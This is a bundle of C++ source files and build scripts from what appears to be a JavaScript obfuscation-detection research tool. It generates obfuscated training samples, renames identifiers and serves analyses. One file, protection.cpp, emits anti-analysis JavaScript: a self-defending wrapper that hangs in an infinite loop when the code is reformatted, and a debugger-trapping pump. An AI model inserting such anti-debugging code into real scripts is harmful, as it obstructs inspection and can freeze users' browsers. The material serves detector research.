// The scanner is table-driven (DESIGN.md §16): Lexer::next() dispatches
// on a 256-entry character-class table (lexer/char_class.h) instead of a
// predicate ladder, and the long homogeneous runs obfuscated code is
// full of — identifier floods, escape-free string/template payloads,
// whitespace walls, comment bodies — are skipped by SWAR/SIMD block
// scanners (lexer/scan.h) that only locate the next interesting byte.
// All classification, line/column bookkeeping, budget charging, and
// error reporting stay in the scalar code, so the token stream is
// bit-identical under every scan policy.
//
// Tokens are zero-copy: payload views point into the caller's `source`
// buffer (which must stay alive and unmoved for as long as the tokens
// are used) or, when unescaping changed the text, into storage cooked
// into the caller's Arena. parse_program arranges for both lifetimes to
// coincide by copying the script into the arena first (DESIGN.md §12).
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "lexer/token.h"
#include "support/arena.h"
#include "support/budget.h"
#include "support/error.h"

namespace jst {

class Lexer {
 public:
  // `arena` receives cooked token payloads (escaped strings/identifiers,
  // template spans); `budget`, when non-null, is charged one token per
  // next() call and polled for the wall-clock deadline every
  // Budget::kDeadlinePollStride tokens; a tripped ceiling throws
  // BudgetExceeded out of next().
  Lexer(std::string_view source, support::Arena& arena,
        Budget* budget = nullptr);

  // Scans and returns the next token; returns kEndOfFile at the end.
  // Throws ParseError on malformed input.
  Token next();

  // Tokenizes an entire source (excluding the EOF token). The returned
  // tokens view into `source` and `arena`.
  static std::vector<Token> tokenize(std::string_view source,
                                     support::Arena& arena);

  // Number of comments skipped so far and their total byte size.
  std::size_t comment_count() const { return comment_count_; }
  std::size_t comment_bytes() const { return comment_bytes_; }

  std::size_t line() const { return line_; }

 private:
  char peek(std::size_t ahead = 0) const;
  bool eof(std::size_t ahead = 0) const;
  char advance();
  bool match(char expected);
  // Skips `count` bytes known to contain no '\n' (block-scanned runs):
  // one position and one column add instead of per-byte advance() calls.
  void skip_run(std::size_t count);
  [[noreturn]] void fail(const std::string& message) const;
  // View of source_[begin, end).
  std::string_view slice(std::size_t begin, std::size_t end) const;

  // Skips whitespace and comments; records whether a newline was crossed.
  void skip_trivia();

  Token make_token(TokenType type, std::size_t start_offset,
                   std::size_t start_line, std::size_t start_column);

  Token scan_identifier_or_keyword();
  Token scan_number();
  Token scan_string(char quote);
  Token scan_template();
  Token scan_regex();
  Token scan_punctuator();

  // True when a '/' in the current position starts a regex rather than a
  // division operator, judged from the previously emitted token.
  bool regex_allowed() const;

  std::string_view source_;
  support::Arena* arena_;
  std::size_t pos_ = 0;
  std::size_t line_ = 1;
  std::size_t column_ = 0;
  bool newline_pending_ = false;
  // Previous-token context for regex disambiguation: only the type and
  // the payload view matter, so the full Token is not copied per next().
  bool has_previous_ = false;
  TokenType previous_type_ = TokenType::kEndOfFile;
  std::string_view previous_value_;
  std::size_t comment_count_ = 0;
  std::size_t comment_bytes_ = 0;
  Budget* budget_ = nullptr;  // non-owning; nullptr = ungoverned
};

// True if `word` is a reserved keyword (not including null/true/false).
bool is_js_keyword(std::string_view word);

}  // namespace jst
