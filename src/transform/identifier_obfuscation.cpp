// Identifier obfuscation: randomize every local variable and function name.
// Naming styles cover the generators seen in the wild — obfuscator.io's
// hexadecimal (_0x1a2b3c), packer-style 1-2 letter names, and random
// alphanumeric — so the detector learns the technique, not one tool's
// naming scheme. The code layout is otherwise untouched, which is why the
// paper's manual analysis found such samples "look very regular" (§IV-C1).
#include <unordered_set>

#include "codegen/codegen.h"
#include "parser/parser.h"
#include "transform/rename.h"
#include "transform/transform.h"

namespace jst::transform {
namespace {

std::string make_name(IdentifierObfuscationOptions::Style style, Rng& rng) {
  using Style = IdentifierObfuscationOptions::Style;
  switch (style) {
    case Style::kHex:
      return hex_name(rng);
    case Style::kShort:
      return rng.identifier(1 + rng.index(2));
    case Style::kAlnum:
      return rng.identifier(5 + rng.index(6));
    case Style::kAuto:
      break;
  }
  return hex_name(rng);
}

}  // namespace

std::string obfuscate_identifiers(
    std::string_view source, Rng& rng,
    const IdentifierObfuscationOptions& options) {
  using Style = IdentifierObfuscationOptions::Style;
  Style style = options.style;
  if (style == Style::kAuto) {
    // Hex dominates in the wild; the others keep the concept general.
    const double roll = rng.uniform();
    style = roll < 0.6 ? Style::kHex
                       : (roll < 0.8 ? Style::kShort : Style::kAlnum);
  }
  ParseResult parsed = parse_program(source);
  std::unordered_set<std::string> used;
  rename_bindings(parsed.ast,
                  [&rng, &used, style](std::size_t, const std::string&) {
                    std::string name = make_name(style, rng);
                    while (is_js_keyword(name) || !used.insert(name).second) {
                      name = make_name(style, rng);
                    }
                    return name;
                  });
  return to_source(parsed.ast.root());
}

}  // namespace jst::transform
