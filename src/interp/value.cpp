#include "interp/value.h"

#include <cmath>
#include <cstdio>
#include <sstream>

namespace jst::interp {

Value JsObject::get(const std::string& key) const {
  if (is_array) {
    if (key == "length") return static_cast<double>(elements.size());
    // Numeric index?
    if (!key.empty() && key.find_first_not_of("0123456789") == std::string::npos) {
      const std::size_t index = std::stoul(key);
      if (index < elements.size()) return elements[index];
      return Undefined{};
    }
  }
  const auto it = properties.find(key);
  return it != properties.end() ? it->second : Value(Undefined{});
}

void JsObject::set(const std::string& key, Value value) {
  if (is_array) {
    if (key == "length") {
      const auto size = static_cast<std::size_t>(to_number(value));
      elements.resize(size, Undefined{});
      return;
    }
    if (!key.empty() && key.find_first_not_of("0123456789") == std::string::npos) {
      const std::size_t index = std::stoul(key);
      if (index >= elements.size()) elements.resize(index + 1, Undefined{});
      elements[index] = std::move(value);
      return;
    }
  }
  properties[key] = std::move(value);
}

bool to_boolean(const Value& value) {
  if (std::holds_alternative<Undefined>(value)) return false;
  if (std::holds_alternative<Null>(value)) return false;
  if (const bool* b = std::get_if<bool>(&value)) return *b;
  if (const double* d = std::get_if<double>(&value)) {
    return *d != 0.0 && !std::isnan(*d);
  }
  if (const std::string* s = std::get_if<std::string>(&value)) {
    return !s->empty();
  }
  return true;  // objects and functions
}

double to_number(const Value& value) {
  if (std::holds_alternative<Undefined>(value)) return std::nan("");
  if (std::holds_alternative<Null>(value)) return 0.0;
  if (const bool* b = std::get_if<bool>(&value)) return *b ? 1.0 : 0.0;
  if (const double* d = std::get_if<double>(&value)) return *d;
  if (const std::string* s = std::get_if<std::string>(&value)) {
    if (s->empty()) return 0.0;
    try {
      std::size_t consumed = 0;
      const double parsed = std::stod(*s, &consumed);
      // Trailing garbage -> NaN (ignoring trailing spaces).
      while (consumed < s->size() &&
             ((*s)[consumed] == ' ' || (*s)[consumed] == '\t')) {
        ++consumed;
      }
      return consumed == s->size() ? parsed : std::nan("");
    } catch (...) {
      return std::nan("");
    }
  }
  if (const ObjectPtr* obj = std::get_if<ObjectPtr>(&value)) {
    // Arrays: [] -> 0, [x] -> number(x); objects -> NaN.
    if ((*obj)->is_array) {
      if ((*obj)->elements.empty()) return 0.0;
      if ((*obj)->elements.size() == 1) return to_number((*obj)->elements[0]);
    }
    return std::nan("");
  }
  return std::nan("");
}

namespace {

std::string number_to_string(double number) {
  if (std::isnan(number)) return "NaN";
  if (std::isinf(number)) return number > 0 ? "Infinity" : "-Infinity";
  if (number == 0.0) return "0";
  if (number == std::floor(number) && std::abs(number) < 1e15) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%.0f", number);
    return buf;
  }
  char buf[32];
  std::snprintf(buf, sizeof buf, "%g", number);
  return buf;
}

}  // namespace

std::string to_string_value(const Value& value) {
  if (std::holds_alternative<Undefined>(value)) return "undefined";
  if (std::holds_alternative<Null>(value)) return "null";
  if (const bool* b = std::get_if<bool>(&value)) return *b ? "true" : "false";
  if (const double* d = std::get_if<double>(&value)) {
    return number_to_string(*d);
  }
  if (const std::string* s = std::get_if<std::string>(&value)) return *s;
  if (const ObjectPtr* obj = std::get_if<ObjectPtr>(&value)) {
    if ((*obj)->is_array) {
      std::ostringstream out;
      for (std::size_t i = 0; i < (*obj)->elements.size(); ++i) {
        if (i > 0) out << ",";
        const Value& element = (*obj)->elements[i];
        if (!std::holds_alternative<Undefined>(element) &&
            !std::holds_alternative<Null>(element)) {
          out << to_string_value(element);
        }
      }
      return out.str();
    }
    return "[object Object]";
  }
  if (const FunctionPtr* fn = std::get_if<FunctionPtr>(&value)) {
    return "function " + (*fn)->name + "() { [native code] }";
  }
  return "";
}

std::string type_of(const Value& value) {
  if (std::holds_alternative<Undefined>(value)) return "undefined";
  if (std::holds_alternative<Null>(value)) return "object";
  if (std::holds_alternative<bool>(value)) return "boolean";
  if (std::holds_alternative<double>(value)) return "number";
  if (std::holds_alternative<std::string>(value)) return "string";
  if (std::holds_alternative<FunctionPtr>(value)) return "function";
  return "object";
}

bool strict_equals(const Value& a, const Value& b) {
  if (a.index() != b.index()) return false;
  if (std::holds_alternative<Undefined>(a)) return true;
  if (std::holds_alternative<Null>(a)) return true;
  if (const bool* lhs = std::get_if<bool>(&a)) return *lhs == std::get<bool>(b);
  if (const double* lhs = std::get_if<double>(&a)) {
    const double rhs = std::get<double>(b);
    return !std::isnan(*lhs) && !std::isnan(rhs) && *lhs == rhs;
  }
  if (const std::string* lhs = std::get_if<std::string>(&a)) {
    return *lhs == std::get<std::string>(b);
  }
  if (const ObjectPtr* lhs = std::get_if<ObjectPtr>(&a)) {
    return *lhs == std::get<ObjectPtr>(b);
  }
  if (const FunctionPtr* lhs = std::get_if<FunctionPtr>(&a)) {
    return *lhs == std::get<FunctionPtr>(b);
  }
  return false;
}

bool loose_equals(const Value& a, const Value& b) {
  if (a.index() == b.index()) return strict_equals(a, b);
  const bool a_nullish = std::holds_alternative<Undefined>(a) ||
                         std::holds_alternative<Null>(a);
  const bool b_nullish = std::holds_alternative<Undefined>(b) ||
                         std::holds_alternative<Null>(b);
  if (a_nullish || b_nullish) return a_nullish && b_nullish;
  // Everything else: numeric comparison (covers number/string/bool mixes;
  // object-to-primitive uses to_number, good enough for the test corpus).
  const double lhs = to_number(a);
  const double rhs = to_number(b);
  return !std::isnan(lhs) && !std::isnan(rhs) && lhs == rhs;
}

ObjectPtr make_array(std::vector<Value> elements) {
  auto array = std::make_shared<JsObject>();
  array->is_array = true;
  array->elements = std::move(elements);
  return array;
}

}  // namespace jst::interp
