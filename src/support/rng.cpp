#include "support/rng.h"

#include <cmath>
#include <numbers>

namespace jst {
namespace {

std::uint64_t splitmix64(std::uint64_t& x) {
  x += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = x;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) {
  return (x << k) | (x >> (64 - k));
}

}  // namespace

Rng::Rng(std::uint64_t seed) {
  std::uint64_t sm = seed;
  for (auto& word : state_) word = splitmix64(sm);
  // Avoid the all-zero state, which is a fixed point of xoshiro.
  if ((state_[0] | state_[1] | state_[2] | state_[3]) == 0) state_[0] = 1;
}

std::uint64_t Rng::next() {
  const std::uint64_t result = rotl(state_[1] * 5, 7) * 9;
  const std::uint64_t t = state_[1] << 17;
  state_[2] ^= state_[0];
  state_[3] ^= state_[1];
  state_[1] ^= state_[2];
  state_[0] ^= state_[3];
  state_[2] ^= t;
  state_[3] = rotl(state_[3], 45);
  return result;
}

std::int64_t Rng::uniform_int(std::int64_t lo, std::int64_t hi) {
  if (lo > hi) throw InvalidArgument("Rng::uniform_int: lo > hi");
  const std::uint64_t range = static_cast<std::uint64_t>(hi - lo) + 1;
  if (range == 0) return static_cast<std::int64_t>(next());  // full range
  // Rejection sampling to remove modulo bias.
  const std::uint64_t limit = UINT64_MAX - UINT64_MAX % range;
  std::uint64_t value = next();
  while (value >= limit) value = next();
  return lo + static_cast<std::int64_t>(value % range);
}

std::size_t Rng::index(std::size_t n) {
  if (n == 0) throw InvalidArgument("Rng::index: n must be positive");
  return static_cast<std::size_t>(
      uniform_int(0, static_cast<std::int64_t>(n) - 1));
}

double Rng::uniform() {
  return static_cast<double>(next() >> 11) * 0x1.0p-53;
}

double Rng::uniform(double lo, double hi) { return lo + (hi - lo) * uniform(); }

bool Rng::bernoulli(double p) {
  if (p <= 0.0) return false;
  if (p >= 1.0) return true;
  return uniform() < p;
}

double Rng::normal(double mean, double stddev) {
  if (has_spare_normal_) {
    has_spare_normal_ = false;
    return mean + stddev * spare_normal_;
  }
  double u1 = uniform();
  while (u1 <= 1e-300) u1 = uniform();
  const double u2 = uniform();
  const double radius = std::sqrt(-2.0 * std::log(u1));
  const double theta = 2.0 * std::numbers::pi * u2;
  spare_normal_ = radius * std::sin(theta);
  has_spare_normal_ = true;
  return mean + stddev * radius * std::cos(theta);
}

std::size_t Rng::weighted_index(std::span<const double> weights) {
  double total = 0.0;
  for (double w : weights) {
    if (w < 0.0) throw InvalidArgument("Rng::weighted_index: negative weight");
    total += w;
  }
  if (total <= 0.0) {
    throw InvalidArgument("Rng::weighted_index: total weight must be positive");
  }
  double target = uniform() * total;
  for (std::size_t i = 0; i < weights.size(); ++i) {
    target -= weights[i];
    if (target < 0.0) return i;
  }
  return weights.size() - 1;  // floating-point tail
}

std::vector<std::size_t> Rng::sample_indices(std::size_t n, std::size_t k) {
  if (k > n) throw InvalidArgument("Rng::sample_indices: k > n");
  std::vector<std::size_t> all(n);
  for (std::size_t i = 0; i < n; ++i) all[i] = i;
  // Partial Fisher-Yates: the first k slots end up a uniform k-subset.
  for (std::size_t i = 0; i < k; ++i) {
    const std::size_t j = i + index(n - i);
    std::swap(all[i], all[j]);
  }
  all.resize(k);
  return all;
}

Rng Rng::split() { return Rng(next() ^ 0xd1b54a32d192ed03ULL); }

std::string Rng::identifier(std::size_t length) {
  static constexpr char kFirst[] = "abcdefghijklmnopqrstuvwxyz_$";
  static constexpr char kRest[] =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_$";
  std::string out;
  out.reserve(length);
  for (std::size_t i = 0; i < length; ++i) {
    if (i == 0) {
      out.push_back(kFirst[index(sizeof(kFirst) - 1)]);
    } else {
      out.push_back(kRest[index(sizeof(kRest) - 1)]);
    }
  }
  return out;
}

std::string Rng::hex_string(std::size_t length) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  out.reserve(length);
  for (std::size_t i = 0; i < length; ++i) out.push_back(kHex[index(16)]);
  return out;
}

}  // namespace jst
