// Analysis-as-a-service API over a trained TransformationAnalyzer.
//
// The paper's wild study (§IV) classifies hundreds of thousands of scripts
// under a per-script timeout — a workload shaped like a service, not a
// batch CLI. This header is the service contract (DESIGN.md §13): every
// frontend (the jstraced-server daemon, the bench drivers, the example
// CLIs) builds an AnalyzeRequest, the service answers with an
// AnalyzeResponse, and both sides of that exchange serialize through the
// versioned NDJSON wire schema in analysis/wire.h. The original
// analyze_one / analyze_batch(span<string>) adapters completed their
// deprecation cycle (introduced PR 6, callers migrated PR 8, removed
// PR 9) — make_source_requests covers the raw-source case.
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "analysis/pipeline.h"
#include "support/cache_flags.h"  // CacheMode

namespace jst::analysis {

class ResultCache;

struct BatchOptions {
  // Parallelism for the batch (0 = JST_THREADS / hardware default via
  // support::resolve_threads, 1 = serial). Results are identical for
  // every value.
  std::size_t threads = 0;
  // Per-script resource ceilings (support/budget.h). Every script in the
  // batch is analyzed under its own Budget built from these limits; tripped
  // ceilings surface as budget statuses / degraded outcomes and are tallied
  // in BatchStats, never thrown. The default governs nothing. A request's
  // own limits override (AnalyzeRequest::limits); this field is the batch
  // default. This supersedes the old max_bytes field: set
  // limits.max_source_bytes for the former behavior (see DESIGN.md §10).
  ResourceLimits limits;
};

// How much of the analysis outcome a response should carry on the wire
// (AnalyzeRequest::detail). Analysis work is identical for every level —
// detail only governs serialization, so a daemon client can trade
// response size against information.
enum class OutputDetail : std::uint8_t {
  kStatus,   // outcome status string only
  kSummary,  // status + diagnostics + budget trip + timings (no report)
  kFull,     // the complete ScriptOutcome, report included
};

std::string_view to_string(OutputDetail detail);

// Disposition of one AnalyzeRequest, distinct from the per-script
// ScriptStatus: ResponseStatus describes the request/transport layer
// (admission, resolution, validation) while ScriptStatus describes the
// analysis itself. A request can be answered kOk while its outcome is a
// parse error or a budget quarantine.
enum class ResponseStatus : std::uint8_t {
  kOk,              // analyzed; outcome populated
  kInvalidRequest,  // malformed request (no source, bad limits, bad JSON)
  kNotFound,        // source_hash reference unknown to the resolver
  kOverloaded,      // admission control shed the request (DESIGN.md §13)
  kDraining,        // server is shutting down; request not admitted
};

std::string_view to_string(ResponseStatus status);

// How a request interacted with the service's ResultCache
// (AnalyzeResponse::cache). kNone means no cache was consulted — the
// service has none attached — and the field stays off the wire, so a
// cacheless daemon's responses are byte-identical to wire v2 modulo the
// version number.
enum class CacheState : std::uint8_t {
  kNone,    // no cache attached; no metadata emitted
  kHit,     // outcome served from the cache, pipeline skipped
  kMiss,    // not cached; analyzed (and stored when cacheable)
  kBypass,  // CacheMode::kBypass: cache deliberately ignored
  kStale,   // CacheMode::kRefresh over an existing entry: recomputed
};

std::string_view to_string(CacheState state);

// One unit of service work: an inline source (or a content-hash reference
// to one the resolver has already seen), an optional per-request limits
// override, and the requested response detail.
struct AnalyzeRequest {
  // Opaque client token echoed back verbatim; lets clients correlate
  // pipelined responses, which the daemon emits in completion order.
  std::string id;
  // Observability correlation token: 16 lowercase hex digits
  // (obs::is_valid_request_id). Clients may supply one (wire v2+); the
  // daemon mints one at admission when absent. The service installs it
  // as the thread's obs::RequestScope for the duration of the analysis,
  // so every trace span and flight-recorder event the request produces
  // carries it. Distinct from `id`: `id` is client-meaningful and
  // free-form, `request_id` is the fixed-shape join key for traces.
  std::string request_id;
  // Inline JS source. `has_source` distinguishes an intentionally empty
  // script from an absent field (wire requests may carry only a hash).
  std::string source;
  bool has_source = false;
  // Content-hash reference (16 lowercase hex digits, FNV-1a 64 of the
  // source bytes): names a script previously submitted inline to the same
  // resolver. Requests carrying both source and hash are validated for
  // consistency and rejected on mismatch.
  std::string source_hash;
  // Per-request override of the service/batch default limits.
  std::optional<ResourceLimits> limits;
  OutputDetail detail = OutputDetail::kFull;
  // Cache discipline for this request (wire v3). kDefault consults the
  // service's ResultCache when one is attached; kBypass skips it
  // entirely; kRefresh recomputes and overwrites. Ignored (all modes
  // behave alike) when the service has no cache.
  CacheMode cache_mode = CacheMode::kDefault;

  static AnalyzeRequest for_source(std::string source,
                                   std::string id = std::string());
  static AnalyzeRequest for_hash(std::string source_hash,
                                 std::string id = std::string());
};

// Adapts a span of raw sources into inline-source requests. Requests are
// positionally aligned with the sources.
std::vector<AnalyzeRequest> make_source_requests(
    std::span<const std::string> sources,
    CacheMode cache_mode = CacheMode::kDefault);

// The service's answer: request disposition, the content hash of the
// analyzed source, the ScriptOutcome (kOk only), and server-side queue
// metadata. Fields under "daemon-filled" are zero when the service is
// called in-process (no queue exists).
struct AnalyzeResponse {
  ResponseStatus status = ResponseStatus::kInvalidRequest;
  std::string id;           // echoed from the request
  std::string request_id;   // echoed (or daemon-minted) trace join key
  std::string source_hash;  // computed (inline) or echoed (reference)
  ScriptOutcome outcome;    // meaningful only when status == kOk
  std::string error;        // diagnostic for every non-kOk status
  OutputDetail detail = OutputDetail::kFull;  // serialization level
  // --- cache metadata (DESIGN.md §15) ---
  // kNone when the service has no cache (fields stay off the wire). On a
  // kHit the outcome carries the timings of the original analysis, while
  // service_ms reflects the actual (lookup-only) serving cost.
  CacheState cache = CacheState::kNone;
  double cache_lookup_ms = 0.0;  // time spent consulting the cache
  // --- daemon-filled queue metadata (DESIGN.md §13) ---
  double queue_ms = 0.0;    // admission -> worker pickup
  double service_ms = 0.0;  // worker pickup -> response ready
  std::size_t queue_depth = 0;  // depth observed at admission

  bool ok() const { return status == ResponseStatus::kOk; }

  // One NDJSON line in the versioned wire schema (analysis/wire.h),
  // honoring `detail`.
  std::string to_json() const;
};

// Aggregate counters over one batch call.
//
// Stage accounting invariant: the per-stage sums partition the per-script
// totals — static_analysis_ms + features_ms + inference_ms ≈
// total_script_ms, where static analysis covers lex + parse + CFG + data
// flow + the §III-D1 eligibility walk. The residue is only the clock
// reads between stage boundaries (microseconds per script); the batch
// aggregator asserts the invariant in debug builds. Only analyzed
// requests (ResponseStatus::kOk) are counted: a rejected or unresolved
// request never reaches the pipeline, so it contributes to no counter.
struct BatchStats {
  std::size_t total = 0;
  std::size_t ok = 0;
  std::size_t parse_errors = 0;
  std::size_t ineligible_size = 0;
  std::size_t ineligible_ast = 0;
  // Budget quarantine counters (DESIGN.md §10), one per budget status.
  std::size_t budget_tokens = 0;      // kBudgetTokens
  std::size_t budget_ast_nodes = 0;   // kBudgetAstNodes
  std::size_t budget_depth = 0;       // kBudgetDepth
  std::size_t budget_dataflow = 0;    // kBudgetDataflow (degraded)
  std::size_t deadline_exceeded = 0;  // kDeadlineExceeded (hard stage)
  std::size_t degraded = 0;           // kDegraded (soft-checkpoint deadline)
  std::size_t threads = 1;            // parallelism actually used
  // Batch wall-clock time. For an empty batch every rate/percentile field
  // below is a well-defined 0.0 (no division happens on total == 0).
  double wall_ms = 0.0;
  double scripts_per_second = 0.0;  // total / wall time; 0 when total == 0
  // Per-stage time summed across scripts (≈ wall_ms × threads when the
  // pool is saturated); see the invariant above.
  double static_analysis_ms = 0.0;
  double features_ms = 0.0;
  double inference_ms = 0.0;
  // Per-script latency distribution (total_ms over all scripts in the
  // batch). Percentiles are exact — computed from the full sample, not
  // histogram buckets — so they are deterministic for any thread count.
  double total_script_ms = 0.0;  // Σ per-script total_ms
  double p50_script_ms = 0.0;
  double p95_script_ms = 0.0;
  double p99_script_ms = 0.0;
  double max_script_ms = 0.0;  // slowest single script

  // Scripts quarantined by any ResourceLimits ceiling (hard or degraded).
  std::size_t budget_tripped() const {
    return budget_tokens + budget_ast_nodes + budget_depth + budget_dataflow +
           deadline_exceeded + degraded;
  }
  double parse_failure_rate() const {
    return total == 0 ? 0.0
                      : static_cast<double>(parse_errors) /
                            static_cast<double>(total);
  }
  // Sum of the three per-stage aggregates (lhs of the invariant above).
  double stage_ms_sum() const {
    return static_analysis_ms + features_ms + inference_ms;
  }

  // One self-contained JSON object with every field above, in the
  // versioned wire schema (analysis/wire.h) — identical bytes whether
  // emitted here, by the daemon, or by wild_study --ndjson-out.
  std::string to_json() const;
};

// Result of a request-path batch: responses positionally aligned with the
// requests, plus aggregate stats over the analyzed subset.
struct BatchResponse {
  std::vector<AnalyzeResponse> responses;  // aligned with the input span
  BatchStats stats;
};

class AnalyzerService {
 public:
  // The analyzer must already be trained (or loaded); throws ModelError
  // otherwise. The service borrows the analyzer — and the optional
  // ResultCache — both of which must outlive it. Attaching a cache
  // computes the model fingerprint once (one serialization pass).
  explicit AnalyzerService(const TransformationAnalyzer& analyzer,
                           ResultCache* cache = nullptr);

  // --- request/response API (the primary entry points) ---

  // Serves one request under its own limits (falling back to
  // `default_limits` when the request carries no override). Never throws
  // on request or analysis failures — both surface as ResponseStatus /
  // ScriptStatus. Hash-only requests return kNotFound here: resolution
  // requires a registry, which the daemon layers on top (server/server.h).
  AnalyzeResponse analyze(const AnalyzeRequest& request,
                          const ResourceLimits& default_limits = {}) const;

  // Serves every request concurrently over the thread pool; responses are
  // positionally aligned and independent of the thread count. Outcomes are
  // bit-identical to analyze() on each request in isolation.
  BatchResponse analyze_batch(std::span<const AnalyzeRequest> requests,
                              const BatchOptions& options = {}) const;

  const TransformationAnalyzer& analyzer() const { return *analyzer_; }

  // Attach (or detach, with nullptr) the result cache. Not thread-safe
  // against in-flight analyze calls; configure before serving.
  void set_cache(ResultCache* cache);
  ResultCache* cache() const { return cache_; }

  // FNV-1a 64 of the serialized trained model as 16 lowercase hex — the
  // model_version component of the cache key. Empty until a cache is
  // attached (computing it costs one full model serialization).
  const std::string& model_fingerprint() const { return model_fingerprint_; }

 private:
  AnalyzeResponse analyze_with_scratch(const AnalyzeRequest& request,
                                       const ResourceLimits& default_limits,
                                       ScriptScratch& scratch) const;

  const TransformationAnalyzer* analyzer_;
  ResultCache* cache_ = nullptr;
  std::string model_fingerprint_;  // computed when a cache is attached
};

// Content hash used for AnalyzeRequest::source_hash references: FNV-1a 64
// of the raw source bytes, formatted as 16 lowercase hex digits.
//
// Trust assumption (DESIGN.md §13): FNV-1a is not collision-resistant —
// colliding inputs are trivially constructible — and the daemon's hash
// registry is shared across connections, returning the first source
// registered under a hash. source_hash references are therefore only
// reliable among mutually-trusted local clients (the daemon listens on a
// Unix socket, filesystem-permission-gated). If the registry is ever
// exposed to untrusted writers, swap this for a cryptographic digest
// (e.g. truncated SHA-256); the wire field is an opaque hex token, so
// only kWireFormatVersion needs bumping.
std::string content_hash(std::string_view source);

}  // namespace jst::analysis
