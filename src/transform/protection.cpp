// Code-protection transformations (obfuscator.io's selfDefending and
// debugProtection options, §II-A "code protection").
//
// Self-defending: an IIFE stringifies one of its own functions and checks
// the compact formatting with regular expressions; reformatting (beautify)
// or renaming breaks the check. The construct only makes sense on minified
// output, so the transformer minifies — the paper notes such tool
// configurations yield multiple ground-truth labels.
//
// Debug protection: a recursive constructor("debugger") pump re-triggers
// the debugger whenever DevTools pauses, plus an interval re-arming it.
#include "codegen/codegen.h"
#include "parser/parser.h"
#include "transform/rename.h"
#include "transform/transform.h"

namespace jst::transform {
namespace {

std::string self_defending_template(Rng& rng) {
  const std::string outer = hex_name(rng);
  const std::string probe = hex_name(rng);
  const std::string first = hex_name(rng);
  return "var " + outer +
         " = (function () {\n"
         "  var " + first + " = true;\n"
         "  return function (context, fn) {\n"
         "    var wrapped = " + first + " ? function () {\n"
         "      if (fn) {\n"
         "        var result = fn[\"apply\"](context, arguments);\n"
         "        fn = null;\n"
         "        return result;\n"
         "      }\n"
         "    } : function () {};\n"
         "    " + first + " = false;\n"
         "    return wrapped;\n"
         "  };\n"
         "})();\n"
         "var " + probe + " = " + outer + "(this, function () {\n"
         "  var compact = new RegExp(\"function *\\\\( *\\\\)\");\n"
         "  var spaced = new RegExp(\"\\\\+\\\\+ *(?:[a-zA-Z_$][0-9a-zA-Z_$]*)\", \"i\");\n"
         "  var self = " + probe +
         "[\"constructor\"](\"return this\")()[\"toString\"]();\n"
         "  if (!compact[\"test\"](self + \"chain\") ||\n"
         "      !spaced[\"test\"](self + \"input\")) {\n"
         "    (function () {} [\"constructor\"](\"while (true) {}\"))();\n"
         "  }\n"
         "});\n" +
         probe + "();\n";
}

std::string debug_protection_template(Rng& rng) {
  const std::string pump = hex_name(rng);
  const std::string counter = hex_name(rng);
  return "(function () {\n"
         "  function " + pump + "(" + counter + ") {\n"
         "    if (typeof " + counter + " === \"string\") {\n"
         "      return function (arg) {} [\"constructor\"](\"while (true) {}\")"
         "[\"apply\"](\"counter\");\n"
         "    } else {\n"
         "      if ((\"\" + " + counter + " / " + counter +
         ")[\"length\"] !== 1 || " + counter + " % 20 === 0) {\n"
         "        (function () { return true; })"
         "[\"constructor\"](\"debugger\")[\"call\"](\"action\");\n"
         "      } else {\n"
         "        (function () { return false; })"
         "[\"constructor\"](\"debugger\")[\"apply\"](\"stateObject\");\n"
         "      }\n"
         "    }\n"
         "    " + pump + "(++" + counter + ");\n"
         "  }\n"
         "  try {\n"
         "    setInterval(function () { " + pump + "(0); }, 4000);\n"
         "  } catch (err) {}\n"
         "})();\n";
}

}  // namespace

std::string add_self_defending(std::string_view source, Rng& rng) {
  std::string combined = self_defending_template(rng);
  combined += source;
  // Self-defending requires the compact form: emit minified (locals keep
  // their names — the wrapper only guards formatting).
  ParseResult parsed = parse_program(combined);
  CodegenOptions options;
  options.minify = true;
  options.minified_line_limit = 900;
  return generate(parsed.ast.root(), options);
}

std::string add_debug_protection(std::string_view source, Rng& rng) {
  std::string combined = debug_protection_template(rng);
  combined += source;
  // obfuscator.io's debugProtection ships with compact output.
  ParseResult parsed = parse_program(combined);
  CodegenOptions options;
  options.minify = true;
  options.minified_line_limit = 900;
  return generate(parsed.ast.root(), options);
}

}  // namespace jst::transform
