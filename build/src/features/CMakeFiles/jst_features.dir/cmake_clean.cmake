file(REMOVE_RECURSE
  "CMakeFiles/jst_features.dir/analysis_pipeline.cpp.o"
  "CMakeFiles/jst_features.dir/analysis_pipeline.cpp.o.d"
  "CMakeFiles/jst_features.dir/feature_extractor.cpp.o"
  "CMakeFiles/jst_features.dir/feature_extractor.cpp.o.d"
  "CMakeFiles/jst_features.dir/handpicked.cpp.o"
  "CMakeFiles/jst_features.dir/handpicked.cpp.o.d"
  "CMakeFiles/jst_features.dir/ngram.cpp.o"
  "CMakeFiles/jst_features.dir/ngram.cpp.o.d"
  "libjst_features.a"
  "libjst_features.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jst_features.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
