# Empty compiler generated dependencies file for jst_parser.
# This may be replaced when dependencies are built.
