file(REMOVE_RECURSE
  "CMakeFiles/jst_ast.dir/ast.cpp.o"
  "CMakeFiles/jst_ast.dir/ast.cpp.o.d"
  "CMakeFiles/jst_ast.dir/ast_json.cpp.o"
  "CMakeFiles/jst_ast.dir/ast_json.cpp.o.d"
  "CMakeFiles/jst_ast.dir/walk.cpp.o"
  "CMakeFiles/jst_ast.dir/walk.cpp.o.d"
  "libjst_ast.a"
  "libjst_ast.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jst_ast.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
