// Resource governance for analyzing hostile wild-study traffic.
//
// The paper's §IV measurement runs the static pipeline over hundreds of
// thousands of uncontrolled scripts; real obfuscated corpora defeat naive
// analyzers through resource exhaustion (deeply nested ASTs, megabyte
// string literals, JSFuck-style token floods), not through correctness
